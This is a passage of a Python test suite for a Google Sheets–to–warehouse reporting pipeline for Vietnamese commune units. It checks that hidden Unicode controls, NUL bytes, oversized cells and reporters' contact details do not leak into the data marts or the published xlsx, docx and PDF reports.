    emoji_results = {
        r
        for (r,) in bi(
            settings,
            """
        select result_text from marts.fct_task_progress where unit_code = 'CB-XA-003'
          and period_code = %s and task_code in ('CB.1.2', 'CB.2.4')""",
            (CORPUS_PERIOD,),
        )
    }
    assert emoji_results == {EMOJI_RESULT}  # NFD typed, NFC stored, emoji whole
    [(longest,)] = bi(
        settings,
        """
        select max(length(content_text)) from marts.fct_feedback where unit_code = 'CB-XA-003'
          and period_code = %s""",
        (CORPUS_PERIOD,),
    )
    assert longest == len(LONGEST_ALLOWED)
    merged_status = dict(
        bi(
            settings,
            """
        select task_code, status_code from marts.fct_task_progress_history
        where unit_code = 'CB-XA-007' and period_code = %s and not has_error
          and task_code in ('CB.2.3', 'CB.2.4', 'CB.2.5')""",
            (CORPUS_PERIOD,),
        )
    )
    assert merged_status == dict.fromkeys(
        ("CB.2.3", "CB.2.4", "CB.2.5"), "dang_thuc_hien_thuong_xuyen"
    )
    control = dict(
        bi(
            settings,
            """
        select task_code, status_code from marts.fct_task_progress where unit_code = 'CB-XA-008'
          and period_code = %s and task_code = 'CB.2.4'""",
            (CORPUS_PERIOD,),
        )
    )
    # the BEL nobody sees is not an error
    assert control == {"CB.2.4": "dang_thuc_hien_thuong_xuyen"}


def test_the_warehouse_is_intact(cycle, world, settings):
    import os

    own = world[0]
    counts = dict(
        query(
            own.dsn("admin"),
            """
        select 'raw', count(*) from raw.sheet_versions
        union all select 'registry', count(*) from ops.sheet_registry where period_code = %(p)s
        union all select 'issues', count(*) from quality.validation_issues
        union all select 'pulls', count(*) from ops.pull_runs where period_code = %(p)s""",
            {"p": CORPUS_PERIOD},
        )
    )
    units = len(CASES) + len(CLEAN_UNITS)
    assert counts == {"raw": units, "registry": units, "issues": counts["issues"], "pulls": 1}
    assert counts["issues"] > 1981
    assert not os.path.exists("/tmp/tonghop-pwned")
    [(marts,)] = bi(
        own, "select count(*) from information_schema.tables where table_schema = 'marts'"
    )
    assert marts >= 20


# ------------------------------------------------------------------ what is published
@pytest.fixture(scope="module")
def published(cycle, world, tmp_path_factory):
    """The period published from this run's marts: the summary workbook and spreadsheet, the
    .docx and (LibreOffice installed) the PDF."""
    from publish.bundle import publish_period
    from sheets_emulator import emulator_client

    settings, server, _ = world
    own = settings.with_overrides(output_dir=tmp_path_factory.mktemp("hostile_output"))
    return publish_period(own, CORPUS_PERIOD, "hostile", client=emulator_client(server.url))


def _hidden_in(text: str) -> list[str]:
    return [f"U+{ord(ch):04X}" for ch in text if ord(ch) in HIDDEN]


def test_no_hidden_control_reaches_any_output(published, world, catalogue):
    """A unit's RLO, isolates, marks and tags reach no mart, no cell of the summary (workbook
    and spreadsheet), no word of the .docx or the PDF; what the Sở reads is the visible text,
    and the pipeline's own words after it read in order: "… văn nghệ (UBND xã Cô Ba)."."""
    import subprocess

    from docx import Document
    from openpyxl import load_workbook

    from sheets_emulator import emulator_client

    settings, server, ids = world
    unit = catalogue.units["CB-XA-010"].unit_name
    assert unit == "UBND xã Cô Ba"
    # what the unit is told: its issues and its check tab
    told = query(
        settings.dsn("admin"),
        """
        select concat_ws(' ', cell_ref, tab_title, row_key, message_vi, value_found, fix_vi)
        from quality.validation_issues where unit_code = 'CB-XA-010'""",
    )
    values, _ = check_tab(server, ids["CB-XA-010"])
    assert told and not [code for (text,) in told for code in _hidden_in(text)]
    assert not [code for row in values for text in row for code in _hidden_in(text)]
    # the marts: every value bi_reader can read
    found = []
    for (name,) in bi(
        settings, "select table_name from information_schema.tables where table_schema = 'marts'"
    ):
        for (text,) in bi(settings, f'select t::text from marts."{name}" t'):
            found += [(name, code) for code in _hidden_in(text)]
    assert not found, sorted(set(found))[:10]
    feedback = {
        text
        for (text,) in bi(
            settings,
            """
        select content_text from marts.fct_feedback where unit_code = 'CB-XA-010'
          and period_code = %s""",
            (CORPUS_PERIOD,),
        )
    }
    assert feedback == {DIFFICULTY_READ, RECOMMENDATION_READ}
    [(status, result, row_key)] = bi(
        settings,
        """
        select status_code, result_text, row_key from marts.fct_task_progress
        where unit_code = 'CB-XA-010' and task_code = 'CB.2.3' and period_code = %s""",
        (CORPUS_PERIOD,),
    )
    assert (status, result, row_key) == (
        "dang_thuc_hien_thuong_xuyen",
        "Tổ chức liên hoan văn nghệ",
        f"{layout.TAB_TASKS}!3",
    )
    # the summary workbook: every cell
    workbook = load_workbook(published.xlsx_path)
    cells = [
        c.value
        for ws in workbook
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert not [code for text in cells for code in _hidden_in(text)]
    assert {DIFFICULTY_READ, RECOMMENDATION_READ} <= set(cells)
    # the summary spreadsheet
    spreadsheet = emulator_client(server.url).open_by_key(published.spreadsheet_id)
    sheet_cells = [
        text for ws in spreadsheet.worksheets() for row in ws.get_all_values() for text in row
    ]
    assert not [code for text in sheet_cells for code in _hidden_in(text)]
    assert {DIFFICULTY_READ, RECOMMENDATION_READ} <= set(sheet_cells)
    # the report: every paragraph and table cell of the .docx, then the PDF's text
    document = Document(published.docx_path)
    texts = [p.text for p in document.paragraphs] + [
        cell.text for table in document.tables for row in table.rows for cell in row.cells
    ]
    assert not [code for text in texts for code in _hidden_in(text)]
    in_order = re.compile(re.escape(DIFFICULTY_READ) + r"\.? \(" + re.escape(unit) + r"\)\.")
    assert [text for text in texts if in_order.search(text)], "the difficulty's line"
    if published.pdf_path:
        shown = subprocess.run(
            ["pdftotext", "-enc", "UTF-8", published.pdf_path, "-"],
            check=True,
            capture_output=True,
            text=True,
        ).stdout
        assert not _hidden_in(shown)
        shown = " ".join(unicodedata.normalize("NFC", shown).split())
        assert in_order.search(shown), "the difficulty's line, in order, in the PDF"


def test_a_cell_longer_than_an_xlsx_cell_is_cut_with_a_mark_and_whole_elsewhere(published, world):
    """The 50,000-character difficulty (the most Google allows) is whole in the marts (see
    above) and in the summary spreadsheet; in the .xlsx (32,767 at most) it is cut, and the
    cell says so, how long it was and where the whole text is."""
    from openpyxl import load_workbook

    from sheets_emulator import emulator_client

    settings, server, _ = world
    tab = "Khó khăn, kiến nghị"
    [cut] = [
        c.value
        for row in load_workbook(published.xlsx_path)[tab].iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(LONGEST_ALLOWED[:200])
    ]
    assert len(cut.encode("utf-16-le")) // 2 <= 32_767  # as Excel counts (🎶 is two)
    body, _, mark = cut.partition(" … [")
    assert LONGEST_ALLOWED.startswith(body) and len(body.encode("utf-16-le")) // 2 > 32_500
    assert mark == (
        f"đã cắt: ô gốc dài 50.000 ký tự; toàn văn trên trang “{tab}” của bảng tính "
        "Tổng hợp và trong kho dữ liệu, bảng marts.fct_feedback]"
    )
    values = (
        emulator_client(server.url)
        .open_by_key(published.spreadsheet_id)
        .worksheet(tab)
        .get_all_values()
    )
    assert LONGEST_ALLOWED in [text for row in values for text in row]


# ------------------------------------------------------------------ the emulator, as Google
def test_the_emulator_refuses_a_5_mb_cell_like_google(world):
    from gspread.exceptions import APIError

    from sheets_emulator import emulator_client

    settings, server, ids = world
    sheet = emulator_client(server.url, user=OFFICIAL).open_by_key(ids["CB-XA-008"])
    with pytest.raises(APIError) as refused:
        sheet.values_update(
            f"'{layout.TAB_TASKS}'!H5",
            params={"valueInputOption": "RAW"},
            body={"values": [[FIVE_MB]]},
        )
    assert refused.value.code == 400
    assert "more than the maximum of 50000 characters in a single cell" in str(refused.value)
    sheet.values_update(
        f"'{layout.TAB_TASKS}'!H5",
        params={"valueInputOption": "RAW"},
        body={"values": [[LONGEST_ALLOWED]]},
    )
    assert sheet.worksheet(layout.TAB_TASKS).acell("H5").value == LONGEST_ALLOWED


def test_a_stored_nul_or_lone_surrogate_does_not_stop_the_pull(world):
    """Google may answer with a NUL or a surrogate cut from its pair (a 50,000-character cell
    ending inside an emoji): land it (as U+FFFD) instead of failing the whole pull."""
    from ingest.land import content_sha256, land_version

    settings = world[0]
    resource = {
        "spreadsheetId": "hostile-nul",
        "properties": {"title": "NUL\x00 🎉\ud83d"},
        "sheets": [
            {
                "properties": {"sheetId": 0, "title": "A\x00"},
                "data": [{"rowData": [{"values": [{"formattedValue": "x\x00y\udc00"}]}]}],
            }
        ],
    }
    conn = psycopg2.connect(settings.dsn("loader"))
    try:
        outcome, version = land_version(
            conn,
            pull_run_id="hostile",
            spreadsheet_id="hostile-nul",
            drive_modified_time=None,
            fetched_at=dt.datetime.now(dt.UTC),
            resource=resource,
        )
        again, same = land_version(
            conn,
            pull_run_id="hostile",
            spreadsheet_id="hostile-nul",
            drive_modified_time=None,
            fetched_at=dt.datetime.now(dt.UTC),
            resource=resource,
        )
    finally:
        conn.close()
    assert outcome == "new_version" and (again, same) == ("unchanged", version)
    [(title, cell, digest)] = query(
        settings.dsn("admin"),
        """
        select spreadsheet_title, payload #>> '{sheets,0,data,0,rowData,0,values,0,formattedValue}',
               content_sha256
        from raw.sheet_versions where sheet_version_id = %s""",
        (version,),
    )
    assert (title, cell) == ("NUL\ufffd 🎉\ufffd", "x\ufffdy\ufffd")
    assert digest == content_sha256(resource)  # the hash is of what was sent
    assert re.fullmatch("[0-9a-f]{64}", digest)


def test_a_spreadsheet_over_the_read_limit_is_refused_recorded_and_read_later(world, catalogue):
    """Over TONGHOP_MAX_SPREADSHEET_BYTES the answer is not decoded (decoded JSON takes 10-20
    times its size in memory): the read is recorded as failed with the reason, the other units
    go on, and the next pull reads it again."""
    from ingest.pull import pull_period
    from ingest.registry import RegistryEntry, register
    from sheets.layout import app_properties

    settings, server, _ = world
    big = build_clean_workbook("CB-XA-001", catalogue, BIG_PERIOD)
    ws = big[layout.TAB_FEEDBACK]
    for r in range(2, 22):  # twenty cells of the most Google allows
        cell = ws.cell(row=r, column=3)
        cell.value = "x"
        cell._value = LONGEST_ALLOWED
    small = build_clean_workbook("CB-XA-002", catalogue, BIG_PERIOD)
    ids = {
        unit: server.store.put_workbook(
            None, book, name=unit, app_properties=app_properties(unit, BIG_PERIOD)
        )
        for unit, book in (("CB-XA-001", big), ("CB-XA-002", small))
    }
    conn = psycopg2.connect(settings.dsn("loader"))
    try:
        register(
            conn, [RegistryEntry(sid, PROGRAMME, BIG_PERIOD, unit) for unit, sid in ids.items()]
        )
    finally:
        conn.close()
    with pytest.MonkeyPatch.context() as env:
        env.setenv("TONGHOP_MAX_SPREADSHEET_BYTES", str(2**20))
        capped = pull_period(settings, catalogue, BIG_PERIOD)
    assert (capped.failed, capped.new_versions) == (1, 1)
    reason = capped.failures[ids["CB-XA-001"]]
    assert "too large to read" in reason and "over the 1.0 MB limit" in reason, reason
    [(recorded,)] = query(
        settings.dsn("admin"),
        """
        select error_message from raw.sheet_fetches where pull_run_id = %s
          and spreadsheet_id = %s and outcome = 'failed'""",
        (capped.pull_run_id, ids["CB-XA-001"]),
    )
    assert recorded == reason
    again = pull_period(settings, catalogue, BIG_PERIOD)
    assert (again.failed, again.new_versions) == (0, 1)


def test_reporters_contact_data_reaches_no_mart(cycle, world):
    """The reporter's name, phone and e-mail of the info block (and the hostile values typed
    there) are in parsed, for the pipeline, and in no value of any mart bi_reader can read —
    not only no column named so."""
    settings = world[0]
    contacts = query(
        settings.dsn("admin"),
        """
        select unit_code, reporter_name, reporter_phone, reporter_email
        from parsed.report_headers where unit_code = any(%s)""",
        ([*CLEAN_UNITS, "CB-XA-003"],),
    )
    assert len(contacts) == len(CLEAN_UNITS) + 1
    needles = {value for _, *values in contacts for value in values if value}
    needles |= {phone.replace(" ", "") for _, _, phone, _ in contacts if phone}
    assert "Nông Thị Lan 🌸" in needles and "0912345678" in needles
    marts = [
        name
        for (name,) in bi(
            settings,
            """
        select table_name from information_schema.tables where table_schema = 'marts'""",
        )
    ]
    found = []
    for name in marts:
        rows = bi(settings, f'select t::text from marts."{name}" t')
        for (text,) in rows:
            found += [(name, needle) for needle in needles if needle in text]
    assert not found, sorted(set(found))[:10]
